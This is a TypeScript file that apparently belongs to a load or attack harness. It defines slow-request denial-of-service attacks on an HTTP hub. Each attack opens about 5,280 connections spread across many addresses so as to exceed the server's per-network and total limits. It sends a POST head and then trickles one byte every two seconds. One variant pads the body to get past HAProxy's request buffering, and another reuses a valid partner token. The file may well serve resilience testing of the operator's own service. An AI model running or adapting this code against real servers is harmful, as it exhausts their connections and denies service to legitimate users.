import type { Socket } from 'node:net'
import { CALLBACK_PATH, get, post } from '../gang/requests.ts'
import { type Attack, anyAddress, nextBytes, type Round, untilClosed } from '../gang/round.ts'

/** More connections than the hub takes in all (5,000), and from no network more than it takes of one (500). */
export const CROWD = 5_280
/** All are open after this time. One that was closed comes again after it. */
export const AGAIN_MS = 2_500
const BYTE_MS = 2_000

/** It needs no token, so the hub waits for the body. */
const TOKEN_PATH = '/api/v1/partner/auth/token'
/** The largest body that the hub takes. */
const BODY_BYTES = 16_384
/** HAProxy hands a request on when its body is whole, or fills a buffer of 16 KiB less 1 KiB. */
const BUFFER_BYTES = 15_800

/** Slow bodies of strangers. */
export const fullTable: Attack = ({ http }, round) =>
  round.crowd(CROWD, AGAIN_MS, (member) =>
    sendSlowly(round.connect(http, anyAddress(member)), round, TOKEN_PATH),
  )

/** The same through a proxy that waits for whole requests, unless they fill its buffer. */
export const fullTableProxy: Attack = ({ http }, round) => {
  const first = '{'.padEnd(BUFFER_BYTES)
  return round.crowd(CROWD, AGAIN_MS, (member) =>
    sendSlowly(round.connect(http, anyAddress(member)), round, TOKEN_PATH, undefined, first),
  )
}

/** The connections are a partner's: each has shown a good token before it sends slowly. */
export const fullTableToken: Attack = ({ http, neighbour: { token } }, round) =>
  round.crowd(CROWD, AGAIN_MS, async (member) => {
    const socket = round.connect(http, anyAddress(member))
    socket.write(get('/healthz', token))
    const answer = await nextBytes(socket)
    round.count(answer === undefined ? 'cut' : answer.toString('latin1', 9, 12))
    if (answer) await sendSlowly(socket, round, CALLBACK_PATH, token)
  })

/** Sends the head of a request and the first part of its body, then a byte at a time. Resolves when the connection has ended. */
async function sendSlowly(
  socket: Socket,
  round: Round,
  path: string,
  token?: string,
  first = '{',
): Promise<void> {
  socket.write(post(path, first, token, BODY_BYTES))
  const dripping = setInterval(() => void socket.write('x'), BYTE_MS)
  await untilClosed(socket)
  clearInterval(dripping)
  if (!round.isOver) round.count('closed')
}
